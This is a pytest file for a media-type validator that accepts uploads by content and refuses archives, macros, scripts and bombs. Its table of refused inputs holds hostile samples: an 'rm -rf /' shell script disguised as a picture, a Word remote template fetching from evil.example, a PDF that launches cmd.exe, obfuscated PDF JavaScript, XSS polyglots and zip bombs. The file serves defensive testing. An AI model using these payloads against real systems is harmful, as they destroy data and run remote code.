"""G49: files are accepted by content, not by name; archives, macros and bombs are refused."""

import pytest

from binhyen.core.errors import NotPossible
from binhyen.vault.media_types import ENDINGS, recognise
from binhyen.vault.tests.samples import (
    AAC,
    AMR,
    DOC,
    EICAR,
    MP3,
    PDF,
    SVG,
    box,
    docx,
    heic,
    mp4,
    noisy_picture,
    pdf,
    pdf_with_hidden,
    picture,
    png_header,
)
from binhyen.vault.tests.sound_samples import opus, wav, webm

REMOTE = (
    '<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" '
    'TargetMode="External"/></Relationships>'
)
ACCEPTED = {
    "image/jpeg": picture("JPEG"),
    "image/png": picture("PNG"),
    "image/webp": picture("WEBP"),
    "image/gif": picture("GIF"),
    "image/heic": heic(),
    "video/mp4": mp4(),
    "video/quicktime": mp4(b"qt  "),
    "audio/mp4": mp4(b"M4A "),
    "audio/mpeg": MP3,
    "audio/aac": AAC,
    "audio/amr": AMR,
    "audio/wav": wav(),
    "audio/ogg": opus(),
    "audio/webm": webm(),
    "video/webm": webm(sort=1, codec=b"V_VP8"),
    "application/pdf": PDF,
    "application/msword": DOC,
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document": docx(),
}
REFUSED = {
    "empty": (b"", "media_empty"),
    "text": ("Xin chào".encode(), "media_type"),
    "script named as picture": (b"#!/bin/sh\nrm -rf /", "media_type"),
    "web page": (b"<!doctype html><script>alert(1)</script>", "media_type"),
    "SVG with script": (SVG, "media_type"),
    "program": (b"MZ" + bytes(200), "media_type"),
    "EICAR": (EICAR, "media_active"),
    "EICAR inside a PDF": (pdf(EICAR), "media_active"),
    "zip": (docx(**{"[Content_Types].xml": ""}), "media_type"),
    "broken zip": (b"PK\x03\x04" + bytes(100), "media_type"),
    "rar": (b"Rar!\x1a\x07\x00" + bytes(50), "media_type"),
    "7z": (b"7z\xbc\xaf\x27\x1c" + bytes(50), "media_type"),
    "gzip": (b"\x1f\x8b\x08" + bytes(50), "media_type"),
    "Word with macros": (docx(word__vbaProject__bin=b"x", **{"word/vbaProject.bin": b"x"}), "media_active"),
    "macro type": (docx(**{"[Content_Types].xml": "document.macroEnabled.main+xml"}), "media_type"),
    "remote template": (docx(**{"word/_rels/settings.xml.rels": REMOTE}), "media_active"),
    "embedded program": (docx(**{"word/embeddings/oleObject1.bin": b"x"}), "media_active"),
    "archive in a document": (docx(**{"word/media/a.zip": b"PK"}), "media_active"),
    "zip bomb": (docx(**{"word/media/image1.png": bytes(101 * 1024 * 1024)}), "media_swells"),
    "old Word with macros": (DOC + "_VBA_PROJECT".encode("utf-16-le"), "media_active"),
    "old Excel": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "Workbook".encode("utf-16-le"), "media_type"),
    "PDF with script": (pdf(b"2 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj"), "media_active"),
    "PDF with a masked script": (pdf(b"2 0 obj<</S/J#61vaScript>>endobj"), "media_active"),
    "PDF with a packed script": (pdf_with_hidden(b"2 0 <</S/JavaScript>>"), "media_active"),
    "PDF with what cannot be looked into": (pdf(b"<</Type/ObjStm>>stream\nxxxx\nendstream"), "media_active"),
    "PDF that bursts": (pdf_with_hidden(bytes(30 * 1024 * 1024)), "media_active"),
    "PDF that starts a program": (pdf(b"<</S/Launch/F(cmd.exe)>>"), "media_active"),
    "PDF with a file in it": (pdf(b"<</EmbeddedFiles 5 0 R>>"), "media_active"),
    "PDF and zip at once": (PDF + docx() + b"\n%%EOF", "media_active"),
    "half a PDF": (PDF[:20], "media_type"),
    "picture of 60,000 pixels": (png_header(60_000, 60_000), "picture_too_large"),
    "narrow picture of 60,000 pixels": (png_header(60_000, 1), "picture_too_large"),
    "picture of 51 million pixels": (png_header(10_000, 5_100), "picture_too_large"),
    "GIF and script at once": (b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)", "media_type"),
    "start of a JPEG only": (b"\xff\xd8\xff\xe0" + bytes(30), "media_type"),
    "JPEG cut at nine tenths": (noisy_picture((200, 150))[:18_000], "media_cut"),
    "JPEG without its last two bytes and pixels": (noisy_picture((64, 48))[:-40], "media_cut"),
    "film cut at its end": (mp4()[:-9], "media_cut"),
    "film of an unknown kind": (box(b"ftyp", b"zzzz" + bytes(8)), "media_type"),
    "21 MB": (b"\xff\xd8\xff" + bytes(21 * 1024 * 1024), "media_too_large"),
}


@pytest.mark.parametrize("content_type", ACCEPTED)
def test_accepted(content_type):
    assert recognise(ACCEPTED[content_type]) == content_type


def test_every_listed_type_is_tried():
    assert set(ACCEPTED) == set(ENDINGS)


@pytest.mark.parametrize("name", REFUSED)
def test_refused(name):
    content, code = REFUSED[name]
    with pytest.raises(NotPossible) as refusal:
        recognise(content)
    assert refusal.value.code == code


def test_a_whole_jpeg_with_something_behind_or_without_the_mark_of_its_end_is_taken():
    whole = noisy_picture((64, 48))
    assert recognise(whole + b"SEFT of a telephone") == "image/jpeg"
    without_mark = whole.removesuffix(b"\xff\xd9") + bytes(8)
    assert recognise(without_mark) == "image/jpeg"


def test_a_picture_with_an_archive_behind_it_is_only_a_picture_after_cleaning():
    from binhyen.vault.pictures import clean_copy

    both = picture("JPEG") + docx()
    assert recognise(both) == "image/jpeg"
    assert b"PK\x03\x04" not in clean_copy(both)
